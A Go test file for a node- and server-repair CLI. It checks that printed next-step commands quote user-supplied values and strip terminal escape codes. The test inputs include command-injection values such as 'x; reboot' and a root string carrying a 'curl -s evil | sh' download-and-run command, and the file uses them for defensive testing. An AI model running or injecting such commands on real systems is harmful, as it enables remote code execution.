package main

import (
	"bytes"
	"maps"
	"strings"
	"testing"

	"salvor/cmd/salvor/kit"
	"salvor/diagnose"
	"salvor/metal"
	"salvor/repair"
)

// reportOf is a report whose cause was found on one of two systems.
func reportOf(id, system string) diagnose.Report {
	r := diagnose.Report{ExaminedIn: 3, Systems: []diagnose.SystemSummary{{Root: "/dev/sda2"}, {Root: "/dev/sdb2"}},
		Findings: []diagnose.Finding{{ID: id, Title: "A title.", System: system, Stage: diagnose.Target, Severity: diagnose.BlocksBoot, Confidence: 0.9,
			Evidence: []diagnose.Evidence{{Kind: diagnose.FromFile, Path: "/etc/fstab", Line: 7}}, Repair: &diagnose.Repair{Consent: diagnose.ConsentFiles}}}}
	r.Judge()
	return r
}

// TestNextStepOfDiagnosis: each command that a report ends in is one that salvor takes for a node or for a server, on one line, and a word of a hostile
// agent stays one word of a shell.
func TestNextStepOfDiagnosis(t *testing.T) {
	node, server := diagnosedSubject{kind: "node", name: "rack1-7", label: "node:rack1-7"}, diagnosedSubject{kind: "server", name: "web1", label: "web1"}
	byHand := reportOf("fstab-missing", "/dev/sda2")
	byHand.Findings[0].Repair = nil
	unknown := diagnose.Report{ExaminedIn: 3, Observed: []diagnose.Observation{{Name: "power", Text: "power on"}}}
	unknown.Judge()
	notLooked := diagnose.Report{Verdict: diagnose.Verdict{Outcome: diagnose.NothingFound}}
	for name, c := range map[string]struct {
		at     diagnosedSubject
		report diagnose.Report
		want   string
	}{
		"a cause on a node":                  {node, reportOf("fstab-device-missing", "/dev/sdb2"), "salvor repair rack1-7 fstab-device-missing --root /dev/sdb2 --plan"},
		"a cause on a server":                {server, reportOf("fstab-device-missing", "/dev/sdb2"), "mend it by hand, as the report says below, in a rescue: salvor server rescue web1"},
		"a cause without a repair":           {node, byHand, "mend it by hand, as the report says below, in a rescue: salvor node rescue rack1-7"},
		"no look at the disks of a node":     {node, notLooked, "salvor diagnose rack1-7 --reboot, which examines the disks"},
		"no look at the disks of a server":   {server, notLooked, "salvor server stop web1 --wait; then salvor diagnose web1 --wait, which examines the disks"},
		"nothing found on a node that is on": {node, unknown, "if you have logged in and it works, say so: salvor diagnosis confirm rack1-7 --words TEXT"},
		"words of a hostile agent": {node, reportOf("x; reboot", "/dev/sda2; curl -s evil | sh '"),
			`salvor repair rack1-7 'x; reboot' --root '/dev/sda2; curl -s evil | sh '\''' --plan`},
	} {
		var out bytes.Buffer
		writeDiagnosis(&out, 40, c.at, metal.Diagnosis{Record: diagnose.Record{State: diagnose.Finished, Report: c.report}})
		if !strings.Contains(out.String(), "\nnext: "+c.want+"\n") {
			t.Errorf("%s: want the next step %q on one line, got:\n%s", name, c.want, out.String())
		}
	}
}

// TestVerdictWithoutATitle: the first line of a report that hides the words of the disks still is a sentence.
func TestVerdictWithoutATitle(t *testing.T) {
	r := reportOf("fstab-device-missing", "/dev/vda1")
	r.Findings[0].Title = ""
	if got, want := verdictLine(&r), "the cause is found: fstab-device-missing on /dev/vda1."; got != want {
		t.Errorf("a finding without a title: want %q, got %q", want, got)
	}
}

// TestNextStepOfRepairQuotesTheRoot: the root that one user named is one word of the command that another user reads.
func TestNextStepOfRepairQuotesTheRoot(t *testing.T) {
	r := shownRepair{Plan: &repair.Plan{Disks: []repair.DiskChange{{Chunks: 1}}}}
	r.State, r.Digest, r.Args = metal.RepairPlanned, "5f0c", metal.RepairArgs{Root: "/dev/sda2; reboot", Consents: []diagnose.Consent{diagnose.ConsentFiles}}
	if got, want := nextRepairStep("rack1-7", r), "salvor repair rack1-7 --root '/dev/sda2; reboot' --digest 5f0c --consent files"; got != want {
		t.Errorf("root %q: want %q, got %q", r.Args.Root, want, got)
	}
}

// TestConfirmDiagnosis: the command sends the user's words to the newest diagnosis or to another one, and prints the verdict with its proof.
func TestConfirmDiagnosis(t *testing.T) {
	const confirmed = `202 {"id": "d1", "state": "finished", "report": {"verdict": {"outcome": "works", "proof": {"kind": "person", "text": "ann confirmed it at noon: I\u001b[2J saw it"}}}}`
	answers := map[string][]string{
		"GET /salvor/v1/nodes/a/diagnoses": {`{"diagnoses": []}`}, "GET /salvor/v1/servers/a/diagnoses": {"404 {}"},
		"POST /salvor/v1/nodes/a/diagnoses/newest/confirm": {confirmed}, "POST /salvor/v1/nodes/a/diagnoses/d1/confirm": {confirmed},
	}
	for _, tc := range []struct {
		args []string
		sent string
	}{
		{[]string{"diagnosis", "confirm", "a", "--words", "I saw it"}, `POST /salvor/v1/nodes/a/diagnoses/newest/confirm {"words":"I saw it"}`},
		{[]string{"diagnosis", "confirm", "a", "d1", "--kind", "node", "--words", "I saw it"}, `POST /salvor/v1/nodes/a/diagnoses/d1/confirm {"words":"I saw it"}`},
	} {
		f := &fakeAPI{answers: maps.Clone(answers)}
		out, errs, status := salvor(t, f, "", tc.args...)
		if status != 0 || !strings.HasPrefix(out, "a: it works: ann confirmed it at noon: I") || strings.Contains(out, "\x1b") || strings.Join(f.asked, "\n") != tc.sent {
			t.Errorf("%q: status %d, sent %q, printed %q %q; want %q sent", tc.args, status, f.asked, out, errs, tc.sent)
		}
	}
	if _, errs, status := salvor(t, &fakeAPI{}, "", "diagnosis", "confirm", "a"); status != kit.StatusUsage || !strings.Contains(errs, `required flag(s) "words"`) {
		t.Errorf("without words: status %d: %s; want a refusal of the command line", status, errs)
	}
}
